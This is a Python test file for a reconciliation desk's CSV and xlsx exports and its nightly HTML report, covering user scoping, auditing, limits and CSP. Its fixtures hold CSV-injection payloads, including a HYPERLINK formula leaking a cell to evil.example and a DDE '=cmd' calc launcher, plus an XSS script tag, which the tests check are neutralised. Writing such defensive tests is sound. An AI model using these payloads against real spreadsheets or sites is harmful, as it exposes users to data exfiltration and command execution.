"""The desk's downloads on a real server over SQLite and PostgreSQL: the findings, adjustments, nights,
payouts and matches lists as CSV and xlsx ready for Excel (human headers, amounts in major units, date
cells, moments in the property's time zone, autofilter, per-currency totals; CSV formula-safe, xlsx text
typed as text), the list's rows of the user's properties only, audited, cut at a limit; and the night's
HTML report under its own Content-Security-Policy."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import multiprocessing
import os
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Engine, func, insert, select, update

from recon_pipeline.db.schema import adjustments, discrepancies, matches, payouts, review_audit
from recon_pipeline.review_desk.app import DeskSettings, review_desk_app
from recon_pipeline.review_desk.pages import exports
from recon_pipeline.serving import ServerThread
from recon_pipeline_tests.support.desk_fixtures import NIGHT, NOW, add_user, finding, served_desk, sign_in
from recon_pipeline_tests.support.desk_rows import payout_row
from recon_pipeline_tests.support.loopback import loopback_client

EARLIER = "2026-12-01"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('x')</script>"
PARIS_NOW = "2026-12-03T09:00:00+01:00"  # NOW (08:00 UTC) in the properties' Europe/Paris


@dataclass
class Desk:
    engine: Engine
    base_url: str


def adjustment(property_id: str, record_id: str, amount: int, status: str, reason: str) -> dict[str, object]:
    return {
        "adjustment_id": f"adj_{record_id:0>24}",
        "idempotency_key": f"{property_id}/{NIGHT}/refund/{record_id}",
        "property_id": property_id,
        "night": NIGHT,
        "kind": "refund",
        "amount_minor": amount,
        "currency": "EUR",
        "reason": reason,
        "status": status,
        "created_at": NOW,
    }


def match(property_id: str, key: str, provider: int, ledger: int, currency: str | None) -> dict[str, object]:
    return {
        "property_id": property_id,
        "night": NIGHT,
        "match_key": key,
        "rule": "booking_amount",
        "score": 0.875,
        "status": "suggested",
        "provider_record_ids": f"ch_{key}",
        "ledger_entry_ids": f"le_{key}",
        "provider_amount_minor": provider,
        "ledger_amount_minor": ledger,
        "currency": currency,
        "detected_at": NOW,
    }


@pytest.fixture
def desk(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
    with served_desk(database_url, monkeypatch) as served:
        with served.engine.begin() as connection:
            connection.execute(
                insert(discrepancies),
                finding(
                    "p1",
                    "r-formula",
                    -1500,
                    HYPERLINK,
                    booking_id="+cmd",
                    provider_record_id="-2+3",
                    ledger_entry_id="@SUM(A1)",
                    provider_amount_minor=-500,
                ),
            )
            for row in (  # one by one: an executemany takes its columns from the first row
                finding("p1", "r-small", 20, SCRIPT),
                finding("p1", "r-yen", 1200, currency="JPY", provider_amount_minor=1200),
                finding(
                    "p1",
                    "r-mixed",
                    0,
                    category="currency_mismatch",
                    ledger_currency="GBP",
                    provider_amount_minor=1000,
                    ledger_amount_minor=900,
                ),
                finding("p1", "r-earlier", 700, night=EARLIER),
                finding("p2", "r-other", 900),
            ):
                connection.execute(insert(discrepancies), row)
            connection.execute(
                insert(adjustments),
                [
                    adjustment("p1", "a1", -1500, "proposed", "=cmd|' /C calc'!A0"),
                    adjustment("p1", "a2", 300, "approved", "refund twice"),
                    adjustment("p2", "a3", 900, "proposed", "other property"),
                ],
            )
            connection.execute(
                insert(matches),
                [
                    match("p1", "k1", 17000, 16950, "EUR"),
                    match("p1", "k2", 500, 400, None),
                    match("p2", "k3", 100, 100, "EUR"),
                ],
            )
        add_user("ana", "analyst", "p1")
        yield Desk(served.engine, served.base_url)


@pytest.fixture
def client(desk: Desk) -> Iterator[httpx.Client]:
    with loopback_client(base_url=desk.base_url) as signed_in:
        assert sign_in(signed_in).status_code == 303
        yield signed_in


def csv_parts(response: httpx.Response) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    """A CSV export's data rows and its totals rows (after the empty line), by header."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    header, *rest = lines
    data = rest[: rest.index([])] if [] in rest else rest
    totals = rest[len(data) + 1 :]
    return (
        [dict(zip(header, line, strict=True)) for line in data],
        [dict(zip(header, line, strict=True)) for line in totals],
    )


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    return csv_parts(response)[0]


@dataclass
class ReadSheet:
    """An xlsx export read back: the sheet, its headers, its data rows' cells and its totals rows."""

    sheet: Worksheet
    header: list[str]
    rows: list[list[Any]]  # cells
    totals: list[list[Any]]

    def column(self, row: list[Any], header: str) -> Any:
        return row[self.header.index(header)]


def read_xlsx(response: httpx.Response) -> ReadSheet:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == exports.MEDIA_TYPES["xlsx"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    header, *rest = [list(row) for row in sheet.iter_rows()]
    assert all(cell.font.b for cell in header) and sheet.freeze_panes == "A2"
    filled = [any(cell.value is not None for cell in row) for row in rest]
    data = rest[: filled.index(False)] if False in filled else rest
    totals = [row for row in rest[len(data) :] if any(cell.value is not None for cell in row)]
    return ReadSheet(sheet, [cell.value for cell in header], data, totals)


def listed_records(page: httpx.Response) -> list[str]:
    """The record keys of the findings list page, in its order."""
    assert page.status_code == 200
    return re.findall(r'<a href="/findings/\d+(?:\?[^"]*)?">([^<]+)</a>', page.text)


def attachment_name(response: httpx.Response) -> str:
    match = re.fullmatch(r'attachment; filename="([^"]+)"', response.headers["content-disposition"])
    assert match, response.headers["content-disposition"]
    return match.group(1)


@pytest.mark.parametrize(
    "params",
    [{}, {"night_from": NIGHT, "amount_at_least": "1.00"}, {"property": "p1", "night_to": EARLIER}],
)
def test_a_csv_export_holds_the_rows_the_list_shows(client: httpx.Client, params: dict[str, str]) -> None:
    shown = listed_records(client.get("/findings", params=params))
    rows = csv_rows(client.get("/findings/export.csv", params=params))
    assert [row["Record"] for row in rows] == shown and shown
    assert {row["Property"] for row in rows} == {"p1"}  # p2's finding is never exported


@pytest.mark.parametrize("sort", ["difference", "-difference", "record"])
def test_an_export_follows_the_lists_sort(client: httpx.Client, sort: str) -> None:
    shown = listed_records(client.get("/findings", params={"sort": sort}))
    assert [
        row["Record"] for row in csv_rows(client.get("/findings/export.csv", params={"sort": sort}))
    ] == shown
    read = read_xlsx(client.get("/findings/export.xlsx", params={"sort": sort}))
    assert [read.column(row, "Record").value for row in read.rows] == shown


def test_the_lists_link_their_exports_with_their_filters(client: httpx.Client) -> None:
    page = client.get("/findings", params={"property": "p1", "night_from": EARLIER, "category": ""})
    assert '<a href="/findings/export.csv?property=p1&amp;night_from=2026-12-01">Export CSV</a>' in page.text
    assert (
        '<a href="/findings/export.xlsx?property=p1&amp;night_from=2026-12-01">Export xlsx</a>' in page.text
    )
    assert (
        '<a href="/matches/export.xlsx?status=suggested">Export xlsx</a>'
        in client.get("/matches", params={"status": "suggested"}).text
    )


def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(client: httpx.Client) -> None:
    response = client.get(
        "/findings/export.csv", params={"property": "p1", "night_from": EARLIER, "night_to": NIGHT}
    )
    assert attachment_name(response) == "findings-p1-2026-12-01_2026-12-02.csv"
    assert response.headers["cache-control"] == "no-store"
    rows, totals = csv_parts(response)
    by_record = {row["Record"]: row for row in rows}
    formula = by_record["r-formula"]
    assert formula["Detail"] == "'" + HYPERLINK
    assert (formula["Booking"], formula["Provider record"], formula["Ledger entry"]) == (
        "'+cmd",
        "'-2+3",
        "'@SUM(A1)",
    )
    # Amounts: numbers in major units (no guard: this code writes them from integers), the currency beside.
    assert (formula["Difference"], formula["Provider amount"], formula["Currency"]) == (
        "-15.00",
        "-5.00",
        "EUR",
    )
    assert formula["Ledger amount"] == ""  # null: an empty cell
    assert (formula["Night"], formula["Detected at"]) == (NIGHT, PARIS_NOW)
    assert (formula["Category"], formula["Category code"], formula["State"]) == (
        "Amount differs",
        "amount_mismatch",
        "Open",
    )
    assert (by_record["r-yen"]["Difference"], by_record["r-yen"]["Currency"]) == ("1200", "JPY")
    mixed = by_record["r-mixed"]
    assert (mixed["Difference"], mixed["Note"], mixed["Ledger amount"]) == ("", "EUR ≠ GBP", "9.00")
    assert [(t["Finding"], t["Difference"], t["Currency"]) for t in totals] == [
        ("Total EUR (4 rows)", "-7.80", "EUR"),  # -15.00 + 0.20 + 7.00, the mismatch has no difference
        ("Total JPY (1 row)", "1200", "JPY"),
    ]


def database_sum(desk: Desk, currency: str) -> Decimal:
    """The findings' summed difference in major units, straight from the table (p1, comparable ones)."""
    d = discrepancies.c
    statement = select(func.sum(d.difference_minor)).where(
        d.property_id == "p1", d.currency == currency, d.category != "currency_mismatch"
    )
    with desk.engine.connect() as connection:
        minor = connection.execute(statement).scalar_one()
    return Decimal(minor).scaleb(-2 if currency == "EUR" else 0)


def test_a_review_note_excel_would_split_at_a_semicolon_is_neutralised_and_quoted(
    client: httpx.Client, desk: Desk
) -> None:
    """Where Excel's list separator is ``;``, an unquoted ``see memo;=cmd...`` is two cells, the second a
    formula: the note is exported guarded and quoted, one cell whatever the separator."""
    memo = "see memo;=cmd|' /C calc'!A0;"
    with desk.engine.begin() as connection:
        connection.execute(
            update(discrepancies).where(discrepancies.c.record_key == "r-small").values(review_note=memo)
        )
    response = client.get("/findings/export.csv", params={"q": "r-small"})
    [line] = [line for line in response.text.split("\r\n") if "r-small" in line]
    assert f',"\'{memo}",' in line
    [row] = csv_rows(response)
    assert row["Review note"] == "'" + memo


def test_an_xlsx_export_is_ready_for_excel(client: httpx.Client, desk: Desk) -> None:
    params = {"cleared": "no"}
    response = client.get("/findings/export.xlsx", params=params)
    assert attachment_name(response) == "findings-not-cleared.xlsx"
    read = read_xlsx(response)
    assert read.sheet.title == "findings"
    assert read.header[:4] == ["Finding", "Property", "Night", "Category"]
    assert read.sheet.auto_filter.ref == f"A1:X{len(read.rows) + 1}"  # the header and the data
    assert read.sheet.column_dimensions["D"].width >= 20  # room for a category's words
    by_record = {read.column(row, "Record").value: row for row in read.rows}
    assert sorted(by_record) == sorted(listed_records(client.get("/findings", params=params)))

    formula = by_record["r-formula"]
    detail = read.column(formula, "Detail")
    assert (detail.value, detail.data_type) == (HYPERLINK, "s")  # text, not a formula, and no visible '
    difference = read.column(formula, "Difference")
    assert (difference.value, difference.data_type, difference.number_format) == (-15, "n", "#,##0.00")
    night = read.column(formula, "Night")
    assert night.is_date and night.value == datetime(2026, 12, 2) and night.number_format == "yyyy-mm-dd"
    assert read.column(formula, "Detected at").value == datetime(2026, 12, 3, 9, 0)  # Paris, naive for Excel
    assert read.column(formula, "Ledger amount").value is None
    yen = read.column(by_record["r-yen"], "Difference")
    assert (yen.value, yen.number_format) == (1200, "#,##0")
    mixed = by_record["r-mixed"]
    assert (read.column(mixed, "Difference").value, read.column(mixed, "Note").value) == (None, "EUR ≠ GBP")
    assert read.column(by_record["r-small"], "Detail").value == SCRIPT  # data, shown as it is
    assert not [
        cell.value
        for row in read.sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("'")
    ]

    totals = {read.column(row, "Currency").value: row for row in read.totals}
    assert sorted(totals) == ["EUR", "JPY"]
    for currency, row in totals.items():
        assert read.column(row, "Finding").font.b
        summed = read.column(row, "Difference").value
        rows = [r for r in read.rows if read.column(r, "Currency").value == currency]
        assert (
            read.column(row, "Finding").value == f"Total {currency} ({len(rows)} row{'s' * (len(rows) > 1)})"
        )
        cells = [read.column(r, "Difference").value for r in rows]
        assert Decimal(str(summed)) == sum(Decimal(str(v)) for v in cells if v is not None)
        assert Decimal(str(summed)) == database_sum(desk, currency)


def test_an_adjustments_export_is_the_users_filtered_queue(client: httpx.Client) -> None:
    to_decide = client.get("/adjustments/export.csv")  # the queue's default tab: what needs a decision
    assert attachment_name(to_decide) == "adjustments-decide.csv"
    assert [row["Adjustment"] for row in csv_rows(to_decide)] == [f"adj_{'a1':0>24}"]
    rows, totals = csv_parts(client.get("/adjustments/export.csv", params={"tab": "all", "sort": "amount"}))
    assert [row["Adjustment"] for row in rows] == [f"adj_{'a1':0>24}", f"adj_{'a2':0>24}"]
    assert [(t["Adjustment"], t["Amount"]) for t in totals] == [("Total EUR (2 rows)", "-12.00")]
    proposed = client.get("/adjustments/export.csv", params={"state": "proposed", "night_from": NIGHT})
    assert attachment_name(proposed) == "adjustments-from-2026-12-02-proposed.csv"
    [row] = csv_rows(proposed)
    assert (row["Reason"], row["Amount"], row["Currency"]) == ("'=cmd|' /C calc'!A0", "-15.00", "EUR")
    assert (row["State"], row["State code"], row["Kind"]) == ("Needs a decision", "proposed", "Refund")
    read = read_xlsx(client.get("/adjustments/export.xlsx", params={"state": "approved"}))
    [approved] = read.rows
    assert read.column(approved, "Amount").value == 3 and read.column(approved, "Created at").is_date
    assert csv_parts(client.get("/adjustments/export.csv", params={"tab": "all", "night_to": EARLIER})) == (
        [],
        [],
    )


def test_the_nights_overview_export_has_a_row_per_night_category_and_currency(client: httpx.Client) -> None:
    rows, totals = csv_parts(client.get("/nights/export.csv"))
    assert sorted(
        (
            r["Property"],
            r["Night"],
            r["Category code"],
            r["Outstanding"],
            r["Outstanding amount"],
            r["Currency"],
        )
        for r in rows
    ) == [
        ("p1", EARLIER, "amount_mismatch", "1", "7.00", "EUR"),
        ("p1", NIGHT, "amount_mismatch", "1", "1200", "JPY"),
        ("p1", NIGHT, "amount_mismatch", "2", "15.20", "EUR"),  # sum of |difference|: 15.00 + 0.20
        ("p1", NIGHT, "currency_mismatch", "1", "0.00", "EUR"),
    ]
    tonight = next(row for row in rows if row["Night"] == NIGHT)
    assert tonight["Category"] == "Amount differs"
    assert tonight["Adjustment states"] == "Approved, waiting to post 1, Needs a decision 1"
    assert tonight["Review states"] == "Open 4" and tonight["Freshness"] == "never reconciled"
    assert [(t["Property"], t["Outstanding amount"]) for t in totals] == [
        ("Total EUR (3 rows)", "22.20"),
        ("Total JPY (1 row)", "1200"),
    ]
    one_night = client.get("/nights/export.xlsx", params={"night_from": NIGHT, "night_to": NIGHT})
    assert attachment_name(one_night) == f"nights-{NIGHT}_{NIGHT}.xlsx"
    read = read_xlsx(one_night)
    assert {read.column(row, "Night").value for row in read.rows} == {datetime(2026, 12, 2)}


def test_the_payouts_export_holds_the_users_payouts_with_their_deposit(
    client: httpx.Client, desk: Desk
) -> None:
    with desk.engine.begin() as connection:
        connection.execute(
            insert(payouts),
            [payout_row("po_p1", "p1"), payout_row("po_failed", "p1", "failed"), payout_row("po_p2", "p2")],
        )
    rows, totals = csv_parts(client.get("/payouts/export.csv"))
    assert sorted((row["Payout"], row["Status"], row["Deposited"], row["Amount"]) for row in rows) == [
        ("po_failed", "Failed", "No", "123.45"),
        ("po_p1", "Paid", "No", "123.45"),
    ]
    assert [(t["Payout"], t["Amount"]) for t in totals] == [("Total EUR (2 rows)", "246.90")]
    failed = client.get("/payouts/export.xlsx", params={"status": "failed"})
    assert attachment_name(failed) == "payouts-failed.xlsx"
    read = read_xlsx(failed)
    assert [(read.column(r, "Payout").value, read.column(r, "Amount").value) for r in read.rows] == [
        ("po_failed", 123.45)
    ]
    assert read.column(read.rows[0], "Arrival").value == datetime(2026, 12, 2)


def test_the_matches_export_holds_the_users_matches(client: httpx.Client) -> None:
    response = client.get("/matches/export.csv", params={"status": "suggested"})
    assert attachment_name(response) == "matches-suggested.csv"
    rows, totals = csv_parts(response)
    by_key = {row["Provider records"]: row for row in rows}
    assert sorted(by_key) == ["ch_k1", "ch_k2"]  # p2's is never exported
    k1 = by_key["ch_k1"]
    assert (k1["Provider amount"], k1["Ledger amount"], k1["Score"], k1["Rule"]) == (
        "170.00",
        "169.50",
        "0.88",
        "booking and amount",
    )
    assert (by_key["ch_k2"]["Provider amount"], by_key["ch_k2"]["Note"]) == ("", "mixed currencies")
    assert [(t["Match"], t["Provider amount"], t["Ledger amount"]) for t in totals] == [
        ("Total EUR (1 row)", "170.00", "169.50")
    ]
    cheapest_first = csv_rows(client.get("/matches/export.csv", params={"sort": "provider_amount"}))
    assert [row["Provider records"] for row in cheapest_first] == ["ch_k2", "ch_k1"]  # the list's sort
    [searched] = csv_rows(client.get("/matches/export.csv", params={"q": "ch_k1"}))
    assert searched["Provider records"] == "ch_k1"
    read = read_xlsx(client.get("/matches/export.xlsx"))
    assert len(read.rows) == 2 and read.column(read.totals[0], "Ledger amount").value == 169.5


@pytest.mark.parametrize(
    ("path", "params", "named"),
    [
        ("/findings/export.csv", {"property": "p2"}, "p2"),
        ("/findings/export.xlsx", {"night_from": "2026-13-01"}, "2026-13-01"),
        ("/findings/export.csv", {"amount_at_least": "-5"}, "amount at least"),
        ("/adjustments/export.xlsx", {"property": "p2"}, "p2"),
        ("/adjustments/export.csv", {"state": "bogus"}, "bogus"),
        ("/nights/export.csv", {"property": "p2"}, "p2"),
        ("/payouts/export.xlsx", {"status": "lost"}, "lost"),
        ("/matches/export.csv", {"property": "p2"}, "p2"),
    ],
)
def test_a_bad_filter_is_refused_in_one_line(
    client: httpx.Client, desk: Desk, path: str, params: dict[str, str], named: str
) -> None:
    response = client.get(path, params=params)
    assert response.status_code == 400
    assert len(response.text.splitlines()) == 1 and named in response.text
    with desk.engine.connect() as connection:
        assert (
            connection.execute(select(review_audit).where(review_audit.c.action == "export")).first() is None
        )


def test_exports_need_a_signed_in_user(desk: Desk) -> None:
    with loopback_client(base_url=desk.base_url) as anonymous:
        for path in ("/findings/export.csv", "/adjustments/export.xlsx", f"/nights/p1/{NIGHT}/report.html"):
            assert anonymous.get(path).headers["location"] == "/signin"


def test_every_export_writes_an_audit_row(client: httpx.Client, desk: Desk) -> None:
    client.get("/findings/export.csv", params={"property": "p1", "night_from": NIGHT})
    client.get("/adjustments/export.xlsx", params={"state": "proposed"})
    client.get(f"/nights/p1/{NIGHT}/report.html")
    with desk.engine.connect() as connection:
        audit = connection.execute(
            select(review_audit.c.user_name, review_audit.c.target, review_audit.c.detail)
            .where(review_audit.c.action == "export")
            .order_by(review_audit.c.id)
        ).all()
    assert [tuple(row) for row in audit] == [
        ("ana", "property=p1&night_from=2026-12-02", "findings csv 4 rows"),
        ("ana", "state=proposed", "adjustments xlsx 1 row"),
        ("ana", f"p1/{NIGHT}", "night report html"),
    ]


def test_an_export_past_the_limit_is_cut_and_says_so(
    client: httpx.Client, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    response = client.get("/findings/export.csv")
    assert [row["Record"] for row in csv_rows(response)] == ["r-formula", "r-small"]
    assert response.headers[exports.TRUNCATED_HEADER] == "first 2 rows"
    assert attachment_name(response) == "findings-first-2.csv"
    whole = client.get("/findings/export.csv", params={"night_to": EARLIER})
    assert exports.TRUNCATED_HEADER not in whole.headers and len(csv_rows(whole)) == 1
    with desk.engine.connect() as connection:
        details = connection.execute(
            select(review_audit.c.detail).where(review_audit.c.action == "export").order_by(review_audit.c.id)
        ).scalars()
        assert list(details) == ["findings csv 2 rows (cut at the limit)", "findings csv 1 row"]


def test_the_nights_report_is_served_for_the_users_properties_only(client: httpx.Client) -> None:
    report = client.get(f"/nights/p1/{NIGHT}/report.html")
    assert report.status_code == 200 and report.headers["content-type"] == "text/html; charset=utf-8"
    assert "Reconciliation of p1, night 2026-12-02" in report.text
    assert "r-formula" in report.text and "r-small" in report.text
    assert "r-earlier" not in report.text and "r-other" not in report.text
    assert SCRIPT not in report.text and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in report.text
    for path in (
        f"/nights/p2/{NIGHT}/report.html",  # another property's
        f"/nights/p9/{NIGHT}/report.html",
        "/nights/p1/2026-13-45/report.html",
        "/nights/p1/yesterday/report.html",
    ):
        assert client.get(path).status_code == 404, path


def test_the_nights_report_has_a_policy_allowing_its_own_inline_code_and_nothing_more(
    client: httpx.Client,
) -> None:
    report = client.get(f"/nights/p1/{NIGHT}/report.html")
    [policy] = report.headers.get_list("content-security-policy")  # the desk's own is not added as well
    directives = dict(
        (name, values) for name, *values in (part.split() for part in policy.split(";") if part.strip())
    )

    def hashes(pattern: str) -> list[str]:
        blocks = re.findall(pattern, report.text, flags=re.DOTALL)
        assert blocks
        return [
            "'sha256-" + base64.b64encode(hashlib.sha256(block.encode()).digest()).decode() + "'"
            for block in blocks
        ]

    assert directives == {
        "default-src": ["'none'"],
        "style-src": hashes(r"<style>(.*?)</style>"),
        "script-src": hashes(r"<script>(.*?)</script>"),  # the JSON data block is never run
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
        "frame-ancestors": ["'none'"],
    }
    # Nothing else the policy would have to allow: no inline style or handler, no loaded file.
    assert not re.search(r"\sstyle=|\son[a-z]+=|\ssrc=|<link|<iframe|<img", report.text)
    assert report.headers["x-frame-options"] == "DENY" and report.headers["cache-control"] == "no-store"


def xlsx_parts(body: bytes) -> dict[str, bytes]:
    """A workbook's parts but its properties (``docProps/core.xml``: the second it was written)."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        return {name: book.read(name) for name in book.namelist() if name != "docProps/core.xml"}


def test_a_desk_served_with_its_lifespan_writes_exports_in_a_process_of_its_own(
    client: httpx.Client, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As `recon review serve` runs it (its lifespan run), the desk writes a list's file in an export
    process that reads the rows on its own connection: with the writers broken in this process the
    downloads still come, from a child process, byte for byte what the download's own thread writes (an
    app served without its lifespan, as the other tests' are); the processes end with the app."""
    paths = ("/findings/export.csv", "/findings/export.xlsx", "/adjustments/export.csv?tab=all")
    in_thread = [client.get(path) for path in paths]
    assert [response.status_code for response in in_thread] == [200, 200, 200]
    assert multiprocessing.active_children() == []

    def broken(*_args: object) -> bytes:
        raise AssertionError("an export was written in the desk's own process")

    monkeypatch.setattr(exports, "sheet_csv_bytes", broken)
    monkeypatch.setattr(exports, "sheet_xlsx_bytes", broken)
    with (
        ServerThread(review_desk_app(desk.engine, DeskSettings("s" * 40))) as server,
        loopback_client(base_url=server.base_url) as served,
    ):
        assert sign_in(served).status_code == 303
        in_process = [served.get(path) for path in paths]
        children = multiprocessing.active_children()
        assert children and all(child.pid != os.getpid() for child in children)
    assert [response.status_code for response in in_process] == [200, 200, 200], in_process[0].text
    for before, after in zip(in_thread, in_process, strict=True):
        assert after.headers["content-disposition"] == before.headers["content-disposition"]
    assert in_process[0].content == in_thread[0].content and in_process[2].content == in_thread[2].content
    assert xlsx_parts(in_process[1].content) == xlsx_parts(in_thread[1].content)
    assert multiprocessing.active_children() == []  # shut down with the app
